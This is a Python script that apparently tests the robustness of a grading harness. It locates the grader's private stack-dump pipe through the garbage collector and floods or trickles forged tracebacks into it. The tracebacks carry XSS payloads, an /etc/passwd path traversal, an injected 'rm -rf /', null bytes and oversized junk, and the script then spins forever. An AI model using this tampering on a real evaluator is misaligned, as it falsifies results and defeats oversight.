"""Attack: find the private stack-dump pipe and write forged dumps into it (once, or without end)."""
import gc
import os
import threading
import time


def uni_to_diff(robot, v, w):
    R = robot.wheel_radius
    L = robot.wheel_base_length
    return (2 * v + w * L) / (2 * R), (2 * v - w * L) / (2 * R)


def diff_to_uni(robot, vel_r, vel_l):
    R = robot.wheel_radius
    L = robot.wheel_base_length
    return R / 2 * (vel_r + vel_l), R / L * (vel_r - vel_l)


class _Robot:
    wheel_radius = 0.0325
    wheel_base_length = 0.09925


def honest():
    return uni_to_diff(_Robot(), 0.1, 0.5)


HERE = os.path.dirname(os.path.abspath(__file__))
FORGED = (
    "Current thread 0x00007f0000000001 (most recent call first):\n"
    '  File "/submission/<script>alert(1)</script>.py", line 1 in attack\n'
    f'  File "{HERE}/../../../etc/passwd", line 1 in attack\n'
    f'  File "{HERE}/differential_drive.py", line 99999 in attack\n'
    f'  File "{HERE}/nonexistent.py", line 3 in attack\n'
    f'  File "{HERE}/differential_drive.py", line 5 in <img src=x onerror=alert(1)>\n'
    f'  File "{HERE}/differential_drive.py", line 5 in attack; rm -rf /\n'
    f'  File "{HERE}/qb_supervisor.py\x00", line 2 in attack\n'
    "Thread 0xZZZZ (most recent call first):\n"
).encode() + b"\xff\xfe\x00garbage" * 50 + b"A" * 70000 + b"\n"


def _dump_fd():
    """The grader's config dict is still alive in the worker: the pipe's number is in it."""
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "fd_dump" in obj:
            return int(obj["fd_dump"])
    raise LookupError("no dump pipe found")


def _flood(fd):
    while True:
        try:
            os.write(fd, FORGED)
        except OSError:
            return


def _trickle(fd):
    """One byte at a time, just often enough that the pipe never looks idle."""
    while True:
        try:
            os.write(fd, b"x")
        except OSError:
            return
        time.sleep(0.005)


def attack(how="once", **args):
    fd = _dump_fd()
    if how == "once":
        os.set_blocking(fd, False)
        try:
            os.write(fd, FORGED)
        except BlockingIOError:
            pass
    else:
        writer = _trickle if how == "trickle" else _flood
        threading.Thread(target=writer, args=(fd,), daemon=True).start()
    while True: pass  # noqa: E701 - STUCK: forge
